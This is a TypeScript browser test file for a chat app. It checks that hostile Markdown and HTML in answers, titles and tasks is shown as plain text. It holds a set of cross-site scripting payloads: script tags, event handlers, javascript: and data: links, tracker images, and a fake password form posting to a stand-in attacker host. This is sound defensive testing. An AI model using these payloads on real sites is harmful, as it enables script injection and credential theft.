import { enter, expect, expectSound, replies, test } from './test';

const HOSTILE = `# <script>globalThis.hacked = 1</script>

<script>globalThis.hacked = 2</script>

<img src="https://evil.example/pixel.png" onerror="globalThis.hacked = 3">

<svg onload="globalThis.hacked = 4"><a xlink:href="javascript:globalThis.hacked=5">x</a></svg>

[a link](javascript:globalThis.hacked=6) and [another](JaVaScRiPt:globalThis.hacked=7) and [data](data:text/html,<script>alert(1)</script>)
and <javascript:globalThis.hacked=8> and [vb](vbscript:x) and [outside](//evil.example/x) and [fine](https://example.org/page)

![a picture](https://evil.example/tracker.png) ![inside](/api/auth/sign-out) ![script](javascript:globalThis.hacked=9)

<iframe src="https://evil.example"></iframe> <form action="https://evil.example"><input name="password"><button>Sign in</button></form>

| <b onclick="globalThis.hacked=10">cell</b> | <br> | <style>*{display:none}</style> |
|---|---|---|
| ![x](https://evil.example/cell.png) | \`<script>\` | [l](javascript:globalThis.hacked=11) |

\`\`\`html
<script>globalThis.hacked = 12</script>
\`\`\`

- [ ] <details open ontoggle="globalThis.hacked=13"><summary>x</summary></details>
[ref]: javascript:globalThis.hacked=14
[by reference][ref]`;

test('hostile Markdown in an answer runs nothing, loads nothing and leads nowhere', async ({ page, context, api }) => {
  const { conversation_id: id } = await api.chat('thanks', { conversation_history: [{ role: 'user', content: 'show me' }, { role: 'assistant', content: HOSTILE }] });
  await enter(context, api);
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  await page.goto(`/c/${id}`);
  const reply = replies(page).first();
  await expect(reply).toContainText('by reference');
  await expect(reply).toContainText('<script>globalThis.hacked = 2</script>');
  expect(await reply.locator('script, img, svg:not([role=img]), iframe, form, input:not([type=checkbox]), style, b, [onclick], [onerror], [onload], [ontoggle]').count()).toBe(0);
  const links = await reply.locator('.said a').evaluateAll((all) => all.map((it) => it.getAttribute('href')).filter((it) => it !== null));
  for (const href of links) expect(href).toMatch(/^(https:\/\/(example\.org|evil\.example)\/|\/api\/auth\/sign-out$)/);
  expect(links).toContain('https://example.org/page');
  for (const link of await reply.locator('.said a:not([href])').all()) await link.click();
  await expectSound(page);
  expect(await page.evaluate(() => (globalThis as { hacked?: number }).hacked)).toBeUndefined();
  expect(asked.filter((it) => it.includes('evil') || it.includes('sign-out'))).toEqual([]);
});

test('hostile text in a question, a title and a task is text', async ({ page, context, api }) => {
  const hostile = '<img src=x onerror="globalThis.hacked=1"><script>globalThis.hacked=2</script>';
  const { conversation_id: id } = await api.chat(hostile);
  await api.call('PATCH', `/api/conversations/${id}`, { title: hostile });
  await api.task(hostile, { description: hostile, tags: ['<b>'] });
  await enter(context, api);
  await page.goto(`/c/${id}`);
  await expect(page.getByRole('heading', { name: hostile, level: 1 })).toBeVisible();
  await page.goto('/tasks');
  await expect(page.getByRole('button', { name: hostile, exact: true })).toBeVisible();
  expect(await page.evaluate(() => (globalThis as { hacked?: number }).hacked)).toBeUndefined();
});
